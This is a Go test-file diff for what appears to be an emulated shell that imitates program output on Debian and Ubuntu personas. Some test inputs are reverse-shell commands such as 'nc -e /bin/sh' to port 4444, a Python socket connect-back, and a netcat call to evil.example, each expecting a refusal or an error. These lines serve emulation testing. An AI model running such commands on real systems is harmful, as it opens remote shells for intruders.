@@ -19,11 +19,11 @@ func TestProgsPersonaVersions(t *testing.T) {
 	for _, tc := range []struct {
 		os, line, out, err string
 	}{
-		{OSDebian12, "ssh -V", "", "OpenSSH_9.2p1 Debian-2+deb12u10, OpenSSL 3.0.17 1 Jul 2025\n"},
+		{OSDebian12, "ssh -V", "", "OpenSSH_9.2p1 Debian-2+deb12u10, OpenSSL 3.0.20 7 Apr 2026\n"},
 		{OSUbuntu2404, "ssh -V", "", "OpenSSH_9.6p1 Ubuntu-3ubuntu13.19, OpenSSL 3.0.13 30 Jan 2024\n"},
 		{OSDebian12, "python3 -V", "Python 3.11.2\n", ""},
 		{OSUbuntu2404, "python3 --version", "Python 3.12.3\n", ""},
-		{OSDebian12, "python3 -c 'import sys; print(sys.version)'", "3.11.2 (main, Apr 28 2025, 14:11:48) [GCC 12.2.0]\n", ""},
+		{OSDebian12, "python3 -c 'import sys; print(sys.version)'", "3.11.2 (main, May 12 2026, 05:17:27) [GCC 12.2.0]\n", ""},
 		{OSUbuntu2404, "python3 -c 'import sys;print(sys.version_info)'", "sys.version_info(major=3, minor=12, micro=3, releaselevel='final', serial=0)\n", ""},
 		{OSDebian12, "perl -v | head -2 | tail -1", "This is perl 5, version 36, subversion 0 (v5.36.0) built for x86_64-linux-gnu-thread-multi\n", ""},
 		{OSUbuntu2404, "perl -v | grep version", "This is perl 5, version 38, subversion 2 (v5.38.2) built for x86_64-linux-gnu-thread-multi\n", ""},
@@ -31,9 +31,11 @@ func TestProgsPersonaVersions(t *testing.T) {
 		{OSUbuntu2404, "sudo -V | head -1", "Sudo version 1.9.15p5\n", ""},
 		{OSDebian12, "systemctl --version | head -1", "systemd 252 (252.39-1~deb12u2)\n", ""},
 		{OSUbuntu2404, "systemctl --version | head -1", "systemd 255 (255.4-1ubuntu8.6)\n", ""},
-		{OSDebian12, "lsb_release -a", "Distributor ID:\tDebian\nDescription:\tDebian GNU/Linux 12 (bookworm)\nRelease:\t12\nCodename:\tbookworm\n", "No LSB modules are available.\n"},
-		{OSUbuntu2404, "lsb_release -a", "Distributor ID:\tUbuntu\nDescription:\tUbuntu 24.04.2 LTS\nRelease:\t24.04\nCodename:\tnoble\n", "No LSB modules are available.\n"},
-		{OSUbuntu2404, "lsb_release -cs", "noble\n", "No LSB modules are available.\n"},
+		{OSDebian12, "lsb_release -a", "Distributor ID:\tDebian\nDescription:\tDebian GNU/Linux 12 (bookworm)\nRelease:\t12\nCodename:\tbookworm\n", ""},
+		{OSUbuntu2404, "lsb_release -a", "Distributor ID:\tUbuntu\nDescription:\tUbuntu 24.04.2 LTS\nRelease:\t24.04\nCodename:\tnoble\n", ""},
+		{OSUbuntu2404, "lsb_release -cs", "noble\n", ""},
+		{OSUbuntu2404, "nc -v 10.0.0.1 4444 || echo refused", "refused\n", "nc: connect to 10.0.0.1 port 4444 (tcp) failed: Connection refused\n"},
+		{OSUbuntu2404, "nc -e /bin/sh 10.0.0.1 4444 || true", "", "nc: invalid option -- 'e'\n" + ncOpenBSDUsage},
 	} {
 		t.Run(tc.os+" "+tc.line, func(t *testing.T) {
 			out, errOut, st := run(t, newPersonaTest(t, tc.os, "root"), tc.line)
@@ -66,7 +68,7 @@ func TestProgsExact(t *testing.T) {
 	}{
 		{"root", "ssh", "", sshUsage92, 255},
 		{"root", "ssh -p 2222 admin@10.0.0.5 id", "", "ssh: connect to host 10.0.0.5 port 2222: Connection refused\n", 255},
-		{"root", "nc", "", "Cmd line: no destination\n", 1},
+		{"root", "nc", "", "Cmd line: wrong\n", 1},
 		{"root", "nc 10.1.2.3", "", "no port[s] to connect to\n", 1},
 		{"root", "nc 10.1.2.3 4444 -e /bin/sh", "", "(UNKNOWN) [10.1.2.3] 4444 (?) : Connection refused\n", 1},
 		{"root", "netcat evil.example 80", "", "evil.example: forward host lookup failed: Unknown host\n", 1},
@@ -79,7 +81,7 @@ func TestProgsExact(t *testing.T) {
 		{"root", "python3 -c 'import socket,os;s=socket.socket();s.connect((\"10.9.9.9\",4444))'", "", "Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\nConnectionRefusedError: [Errno 111] Connection refused\n", 1},
 		{"root", "python3 -c 'print \"x\"'", "", "  File \"<string>\", line 1\n    print \"x\"\n    ^^^^^^^^^\nSyntaxError: Missing parentheses in call to 'print'. Did you mean print(...)?\n", 1},
 		{"root", "python3 -c", "", "Argument expected for the -c option\n" + pythonUsage, 2},
-		{"root", "python3 /tmp/x.py", "", "/usr/bin/python3: can't open file '/tmp/x.py': [Errno 2] No such file or directory\n", 2},
+		{"root", "python3 /tmp/x.py", "", "python3: can't open file '/tmp/x.py': [Errno 2] No such file or directory\n", 2},
 		{"root", "python3 -m nosuch", "", "/usr/bin/python3: No module named nosuch\n", 1},
 		{"root", "echo 'print(1+2)' | python3", "3\n", "", 0},
 		{"root", "perl -e 'print \"a\\tb\\n\"'", "a\tb\n", "", 0},
@@ -93,7 +95,7 @@ func TestProgsExact(t *testing.T) {
 		{"root", "getent passwd 0", "root:x:0:0:root:/root:/bin/bash\n", "", 0},
 		{"root", "getent passwd nosuch", "", "", 2},
 		{"root", "getent hosts localhost", "127.0.0.1       localhost\n", "", 0},
-		{"root", "getent nope", "", "Unknown database: nope\nTry `getent --help' or `getent --usage' for more information.\n", 1},
+		{"root", "getent nope", "Try `getent --help' or `getent --usage' for more information.\n", "Unknown database: nope\n", 1},
 		{"debian", "getent shadow", "", "", 2},
 		{"root", "timedatectl", "               Local time: Fri 2026-12-04 23:50:04 UTC\n           Universal time: Fri 2026-12-04 23:50:04 UTC\n                 RTC time: Fri 2026-12-04 23:50:04\n                Time zone: Etc/UTC (UTC, +0000)\nSystem clock synchronized: yes\n              NTP service: active\n          RTC in local TZ: no\n", "", 0},
 		{"root", "journalctl", "-- No entries --\n", "", 0},
